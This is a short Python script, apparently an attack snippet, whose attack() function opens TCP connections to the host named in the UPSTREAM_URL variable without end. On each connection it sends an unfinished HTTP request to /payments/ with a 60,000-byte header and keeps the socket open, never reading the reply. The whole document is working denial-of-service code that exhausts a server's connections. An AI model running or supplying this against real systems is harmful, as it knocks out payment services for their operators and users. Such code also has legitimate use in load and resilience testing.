# Opens connections to the slow outside services without end, and never reads. [waits]
import os, socket
from urllib.parse import urlsplit
def attack():
    target = urlsplit(os.environ["UPSTREAM_URL"])
    held = []
    while True:
        try:
            held.append(socket.create_connection((target.hostname, target.port)))
            held[-1].send(b"GET /payments/ HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 60_000)
        except OSError:
            pass
